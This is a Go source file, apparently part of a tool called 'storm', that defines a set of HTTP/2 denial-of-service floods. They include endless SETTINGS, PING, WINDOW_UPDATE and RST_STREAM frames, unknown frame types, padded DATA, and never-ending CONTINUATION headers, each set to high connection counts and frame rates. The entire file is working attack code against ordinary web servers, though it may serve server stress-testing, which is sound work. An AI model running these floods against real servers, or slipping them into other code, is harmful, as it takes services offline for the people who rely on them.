package storm

import (
	"golang.org/x/net/http2"
)

func frameAttacks() []Attack {
	flood := func(name, what string, reads bool, batch func(s *storm, h *session)) Attack {
		return Attack{Name: name, What: what, Unit: "frames", Conns: 16, Dials: 40, Rate: 20000, Needs: HTTP2,
			run: func(s *storm, c *line) error {
				h := s.open(c, reads)
				return h.repeat(frames, func() { batch(s, h) })
			}}
	}
	return []Attack{
		flood("SETTINGS", "SETTINGS without end, each to be acknowledged", true, settings),
		flood("SETTINGS unread", "the same, with no answer read", false, settings),
		{Name: "SETTINGS, full", What: "SETTINGS of 2,000 changes each", Unit: "frames",
			Conns: 16, Dials: 40, Rate: 400, Needs: HTTP2, run: fullSettings},
		flood("SETTINGS, table sizes", "SETTINGS that resize the table for heads to and fro", true, tableSizes),
		flood("PING", "PINGs without end, each to be answered", true, pings),
		flood("PING unread", "the same, with no answer read", false, pings),
		flood("PRIORITY", "PRIORITY of ever new streams", true, priorities),
		flood("WINDOW_UPDATE", "a byte more of the connection's window, again and again", true, windows),
		flood("RST_STREAM", "resets of streams that are long over", true, resets),
		flood("unknown frames", "frames of kinds that nobody knows", true, unknown),
		withStream(flood, "empty DATA", "empty DATA of a body that never ends", func(h *session, n uint32) {
			_ = h.fr.WriteData(n, false, nil)
		}),
		withStream(flood, "padded DATA", "DATA that is all padding", func(h *session, n uint32) {
			_ = h.fr.WriteDataPadded(n, false, nil, make([]byte, 8))
		}),
		{Name: "empty HEADERS", What: "heads without a field", Unit: "frames", Conns: 16, Dials: 40, Rate: 20000, Needs: HTTP2, run: emptyHeaders},
		{Name: "CONTINUATION", What: "a head that never ends, full of fields", Unit: "frames",
			Conns: 16, Dials: 40, Rate: 5000, Needs: HTTP2, run: continuation},
		{Name: "empty CONTINUATION", What: "a head that never ends, in frames of nothing", Unit: "frames",
			Conns: 16, Dials: 40, Rate: 20000, Needs: HTTP2, run: emptyContinuation},
		{Name: "HTTP/2 connections", What: "connections of HTTP/2 without a request", Unit: "connections",
			Conns: 800, Dials: 150, Rate: 1e6, Needs: HTTP2, run: emptySession},
	}
}

// frames is how many go out with one write.
const frames = 100

func settings(s *storm, h *session) {
	for range frames {
		_ = h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	}
}

func fullSettings(s *storm, c *line) error {
	h := s.open(c, true)
	list := make([]http2.Setting, 2000)
	for i := range list {
		list[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)}
	}
	return h.repeat(1, func() { _ = h.fr.WriteSettings(list...) })
}

func tableSizes(s *storm, h *session) {
	for range frames / 2 {
		_ = h.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
		_ = h.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1 << 30})
	}
}

func pings(s *storm, h *session) {
	for range frames {
		_ = h.fr.WritePing(false, [8]byte{1})
	}
}

func priorities(s *storm, h *session) {
	for range frames {
		_ = h.fr.WritePriority(h.stream(), http2.PriorityParam{StreamDep: h.next - 4, Weight: 200})
	}
}

func windows(s *storm, h *session) {
	for range frames {
		_ = h.fr.WriteWindowUpdate(0, 1)
	}
}

func resets(s *storm, h *session) {
	if h.next == 1 {
		h.headers(h.stream(), true, h.request("GET", s.to.Page))
	}
	for range frames {
		_ = h.fr.WriteRSTStream(1, http2.ErrCodeCancel)
	}
}

func unknown(s *storm, h *session) {
	for i := range frames {
		_ = h.fr.WriteRawFrame(http2.FrameType(0x40+i%0x80), 0, 0, nil)
	}
}

// withStream is a flood on a stream that takes a body.
func withStream(flood func(string, string, bool, func(*storm, *session)) Attack, name, what string, frame func(h *session, stream uint32)) Attack {
	return flood(name, what, true, func(s *storm, h *session) {
		if h.next == 1 {
			h.headers(h.stream(), false, h.request("POST", s.to.Sink))
		}
		for range frames {
			frame(h, h.next-2)
		}
	})
}

func emptyHeaders(s *storm, c *line) error {
	h := s.open(c, true)
	return h.repeat(frames, func() {
		for range frames {
			h.headers(h.stream(), true, nil)
		}
	})
}

func continuation(s *storm, c *line) error {
	h := s.open(c, true)
	// Without an entry in the table, so that every frame can be the same.
	name, value := filler(4000)
	part := append([]byte{0, byte(len(name))}, name...)
	part = append(part, 0x7f, byte(len(value)-127)&0x7f|0x80, byte((len(value)-127)>>7))
	part = append(part, value...)
	_ = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: h.request("GET", s.to.Page), EndStream: true})
	return h.repeat(4, func() {
		for range 4 {
			_ = h.fr.WriteContinuation(1, false, part)
		}
	})
}

func emptyContinuation(s *storm, c *line) error {
	h := s.open(c, true)
	_ = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: h.request("GET", s.to.Page), EndStream: true})
	return h.repeat(frames, func() {
		for range frames {
			_ = h.fr.WriteContinuation(1, false, nil)
		}
	})
}

func emptySession(s *storm, c *line) error {
	h := s.open(c, true)
	if !s.may(1) {
		return nil
	}
	if err := h.flush(); err != nil {
		return err
	}
	return h.hold()
}
